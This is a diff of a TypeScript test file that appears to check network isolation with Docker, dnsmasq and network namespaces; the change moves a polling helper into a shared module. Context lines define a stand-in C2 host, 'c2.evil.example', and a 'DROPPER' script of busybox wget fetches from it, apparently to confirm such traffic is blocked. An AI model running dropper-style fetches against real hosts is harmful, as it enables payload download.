@@ -14,6 +14,7 @@ import { CLI, runCli } from '../helpers/cli.js'
 import { BUSYBOX_IMAGE, startDocker } from '../helpers/docker.js'
 import { dig, startDnsmasq } from '../helpers/dnsmasq.js'
 import { inNs, link, makeNs, spawnInNs } from '../helpers/netns.js'
+import { until } from '../helpers/wait.js'
 
 const C2_NAME = 'c2.evil.example'
 const C2_IP = '203.0.113.80'
@@ -29,15 +30,6 @@ const DROPPER = [
   `busybox timeout 8 wget -O- http://${C2_NAME}/; echo "wget-name rc=$?"`,
   `busybox timeout 8 wget -O- http://${C2_IP}/; echo "wget-ip rc=$?"`,
 ].join('\n')
-
-async function until(what: string, cond: () => Promise<boolean> | boolean, ms: number): Promise<number> {
-  const t0 = Date.now()
-  while (!(await cond())) {
-    if (Date.now() - t0 > ms) throw new Error(`timed out after ${ms} ms waiting for ${what}`)
-    await new Promise((r) => setTimeout(r, 100))
-  }
-  return Date.now() - t0
-}
 
 type Proc = ChildProcess & { out: () => string }
 
